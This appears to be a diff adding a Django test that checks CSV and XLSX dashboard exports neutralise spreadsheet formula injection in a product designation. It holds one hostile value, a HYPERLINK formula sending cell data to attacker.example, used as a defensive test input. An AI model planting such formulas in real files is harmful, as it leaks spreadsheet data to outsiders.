@@ -21,6 +21,7 @@ from excon.licences import services as licence_services
 from excon.licences.enums import LicenceStatus
 from excon.licences.models import LicenceLine
 from excon.licences.tests.factories import direct_licence
+from excon.products.models import Product
 from excon.products.tests.factories import control_entry
 from excon.supply import checks, selectors, services
 from excon.supply.arithmetic import Period
@@ -412,6 +413,22 @@ def test_dashboard_and_its_csv_and_xlsx(world) -> None:  # type: ignore[no-untyp
     assert ["ML6", period.label, "(all products)", 30, 10, 8, 10, 0, 22] in values
     assert client.get(reverse("supply:dashboard"), {"category": "ML99", "year": period.year}).status_code == 200
     assert _login(Client(), world.exporter).get(reverse("supply:dashboard_csv"), query).status_code == 404
+
+
+def test_an_exporters_formula_designation_comes_out_neutralised_in_csv_and_xlsx(world) -> None:  # type: ignore[no-untyped-def]
+    hostile = '=HYPERLINK("http://attacker.example/?"&A1,"Open")'
+    Product.objects.filter(pk=world.product.pk).update(designation=hostile)  # as the exporter could have typed it
+    period = selectors.current_period()
+    declare(world.exporter, world.product, 30, 10)
+    client = _login(Client(), world.officer)
+    query = {"category": "ML6", "year": period.year}
+    rows = list(csv.reader(io.StringIO(client.get(reverse("supply:dashboard_csv"), query).content.decode())))
+    assert ["ML6", period.label, "'" + hostile, "30", "10", "0", "0", "0", "40"] in rows
+    sheet = load_workbook(io.BytesIO(client.get(reverse("supply:dashboard_xlsx"), query).content)).active
+    cells = [row for row in sheet.iter_rows(min_row=2) if (row[1].value, row[2].value) == (period.label, "'" + hostile)]
+    assert cells[0][2].value == "'" + hostile
+    assert cells[0][2].data_type == "s"  # text, not a formula ("f")
+    assert cells[0][3].value == 30
 
 
 def test_declaration_page_posts_through_the_service(world) -> None:  # type: ignore[no-untyped-def]
